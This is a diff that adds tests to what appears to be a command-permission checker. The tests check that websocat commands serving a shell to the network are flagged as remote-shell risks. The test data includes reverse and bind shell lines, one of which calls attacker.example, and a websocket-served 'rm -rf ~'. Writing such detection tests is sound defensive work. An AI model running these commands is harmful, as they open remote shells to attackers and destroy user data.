@@ -33,6 +33,25 @@ describe('pulled configuration runs (shell pack)', () => {
   });
 });
 
+describe('a shell websocat serves to the network (shell pack)', () => {
+  it.each([
+    ["websocat ws-l:0.0.0.0:8080 sh-c:'rm -rf ~'", 'ask shell/remote-shell'],
+    ['websocat --binary ws-l:0.0.0.0:9000 exec:/bin/bash', 'ask shell/remote-shell'],
+    ["websocat tcp-l:[::]:4444 cmd:'bash -i'", 'ask shell/remote-shell'],
+    ["websocat ws://203.0.113.9:443/ sh-c:'bash -i'", 'ask shell/remote-shell'],
+    ['websocat -E tcp:attacker.example:4444 exec:/bin/sh', 'ask shell/remote-shell'],
+    // fail closed: the other end known only at run time
+    ['websocat ws-l:0.0.0.0:8080 "$TARGET"', 'ask shell/remote-shell'],
+    ["websocat ws-l:127.0.0.1:8080 sh-c:'cat /etc/motd'", 'allow'],
+    ['websocat ws-l:[::1]:8080 exec:/bin/cat', 'allow'],
+    ['websocat ws://localhost:8080/ sh-c:bash', 'allow'],
+    ['websocat ws://echo.example.org/', 'allow'],
+    ['websocat -s 8080', 'allow'],
+  ])('%s → %s', (script, expected) => {
+    expect(verdict(script)).toBe(expected);
+  });
+});
+
 describe('a shell served through the Global Socket relay (shell pack)', () => {
   it.each([
     ['gs-netcat -s fake-secret-77 -l -i', 'ask shell/remote-shell'],
